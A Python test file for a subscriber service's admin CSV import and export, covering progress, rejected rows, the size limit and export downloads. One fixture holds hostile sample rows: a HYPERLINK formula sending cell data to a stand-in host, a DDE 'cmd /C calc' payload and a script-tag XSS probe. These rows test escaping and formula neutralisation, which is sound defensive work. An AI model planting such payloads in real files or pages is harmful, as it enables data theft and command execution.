"""Admin CSV import and export of subscribers: progress, rejected rows shown and downloaded inert, the size limit."""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient
from sqlalchemy import select

from service.admin.models import ImportJob
from service.core.db import engine_for
from tests.support.admin import audit_of, csrf_of, signed_in, wait_done
from tests.support.apps import shared_app
from tests.support.readers import add_readers

CSV = (
    "email,name,timezone\n"
    "new.one@example.org,New One,Europe/Paris\n"
    "new.two@example.org,New Two,\n"
    "new.one@example.org,Again,\n"
    "not an address,Nobody,\n"
    "new.three@example.org,Bad Zone,Mars/Olympus\n"
)


def test_a_csv_import_shows_progress_reports_bad_lines_and_mails_each_new_address(client, db, world_news, mailbox):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news"},
        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    assert answer.headers["location"] == f"/admin/imports/{job_id}"
    progress_page = client.get(answer.headers["location"]).text
    assert 'class="progress"' in progress_page and "readers.csv" in progress_page
    state = wait_done(client, job_id)
    assert state["status"] == "done" and state["added"] == 2 and state["fraction"] == 1.0
    assert [line for line, _, _ in state["rejected"]] == [4, 5, 6]
    assert [text for _, _, text in state["rejected"]] == [
        "new.one@example.org,Again,",
        "not an address,Nobody,",
        "new.three@example.org,Bad Zone,Mars/Olympus",
    ]
    report = client.get(f"/admin/imports/{job_id}").text
    assert "Rejected rows" in report and "appears earlier in this file" in report and "Mars/Olympus" in report
    for address in ("new.one@example.org", "new.two@example.org"):
        [received] = mailbox.wait_for(address)
        assert "confirm" in received.message["Subject"].lower()
    assert "readers.csv" in client.get("/admin/imports").text
    [entry] = audit_of(db, "subscribers.import")
    assert entry.actor == "ann@example.org" and entry.details["confirmed"] is False


def test_a_pre_confirmed_import_without_a_reason_is_refused_under_the_field(client, db, world_news):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news", "confirmed": "1", "reason": "  "},
        files={"file": ("readers.csv", CSV.encode(), "text/csv")},
    )
    assert answer.status_code == 422
    assert re.search(r'id="reason-error" role="alert">A pre-confirmed import needs a reason', answer.text)
    # The chosen file cannot come back in a file input: the page says so, by name, under the file field.
    assert re.search(r'id="file-error" role="alert">Nothing was uploaded: choose readers.csv again', answer.text)
    assert 'data-required-with="confirmed"' in answer.text  # and the script asks for the reason before sending
    assert 'name="confirmed" value="1" checked' in answer.text
    db.expire_all()
    assert db.scalar(select(ImportJob.id)) is None


HOSTILE = (
    "email,name\n"
    "fine@example.org,Fine\n"
    '=HYPERLINK("http://evil.example/?"&A1;"x"),Formula\n'
    "+1-2@example,Plus\n"
    "<script>alert(1)</script>,<b>Bold</b>\n"
    "@SUM(1+1)*cmd|' /C calc'!A0,At\n"
)


def test_rejected_rows_show_their_value_escaped_and_download_as_inert_csv(client, db, world_news):
    signed_in(client, db)
    csrf = csrf_of(client, "/admin/imports/new")
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf, "list": "world-news"},
        files={"file": ("hostile.csv", HOSTILE.encode(), "text/csv")},
        follow_redirects=False,
    )
    job_id = int(answer.headers["location"].rsplit("/", 1)[1])
    state = wait_done(client, job_id)
    assert [line for line, _, _ in state["rejected"]] == [3, 4, 5, 6], state["rejected"]
    report = client.get(f"/admin/imports/{job_id}").text
    assert "<script>alert(1)</script>" not in report and "<b>Bold</b>" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;,&lt;b&gt;Bold&lt;/b&gt;" in report  # shown, as text
    assert f'href="/admin/imports/{job_id}/rejected.csv"' in report

    download = client.get(f"/admin/imports/{job_id}/rejected.csv")
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"] == f'attachment; filename="import-{job_id}-rejected.csv"'
    rows = list(csv.reader(io.StringIO(download.text)))
    assert rows[0] == ["line", "reason", "row"] and [row[0] for row in rows[1:]] == ["3", "4", "5", "6"]
    by_line = {int(row[0]): row for row in rows[1:]}
    assert by_line[3][2] == '\'=HYPERLINK("http://evil.example/?"&A1;"x"),Formula'  # a formula made text
    assert by_line[4][2] == "'+1-2@example,Plus" and by_line[6][2].startswith("'@SUM(1+1)")
    assert by_line[5][2] == "<script>alert(1)</script>,<b>Bold</b>"  # a CSV cell is not HTML: kept as it was
    assert all(row[1] and not row[1].startswith(("=", "+", "-", "@")) for row in rows[1:])
    for line, why, _ in state["rejected"]:
        assert by_line[line][1] == (f"'{why}" if why.startswith(("=", "+", "-", "@")) else why)

    api = client.get(f"/api/admin/imports/{job_id}/rejected.csv")
    assert api.status_code == 200 and api.text == download.text
    assert len(audit_of(db, "subscribers.import.rejected")) == 2


def test_an_upload_over_the_limit_is_one_clear_line_and_nothing_is_stored(settings, db, world_news):
    small = settings.model_copy(update={"import_max_bytes": 200})
    with TestClient(shared_app(small)) as browser:
        signed_in(browser, db)
        csrf = csrf_of(browser, "/admin/imports/new")
        big = ("email\n" + "".join(f"reader{n}@example.org\n" for n in range(40))).encode()
        answer = browser.post(
            "/admin/subscribers/import",
            data={"csrf_token": csrf, "list": "world-news"},
            files={"file": ("big.csv", big, "text/csv")},
        )
    assert answer.status_code == 413 and "too large" in answer.text
    db.expire_all()
    assert db.scalar(select(ImportJob.id)) is None
    assert not list(settings.data_dir.glob("imports/*.csv"))


def test_export_is_a_csv_download_of_the_list_and_status(client, db, settings, world_news):
    signed_in(client, db)
    engine = engine_for(settings.effective_database_url)
    add_readers(engine, world_news.id, 3, prefix="fan")
    add_readers(engine, world_news.id, 2, prefix="maybe", status="unconfirmed")
    answer = client.get("/admin/subscribers/export", params={"list": "world-news", "status": "confirmed"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="world-news-confirmed.csv"'
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert sorted(row["email"] for row in rows) == ["fan0@example.org", "fan1@example.org", "fan2@example.org"]
    assert {row["status"] for row in rows} == {"confirmed"}
    everyone = list(
        csv.DictReader(io.StringIO(client.get("/admin/subscribers/export", params={"list": "world-news"}).text))
    )
    assert len(everyone) == 5
    assert [e.actor for e in audit_of(db, "subscribers.export")] == ["ann@example.org"] * 2
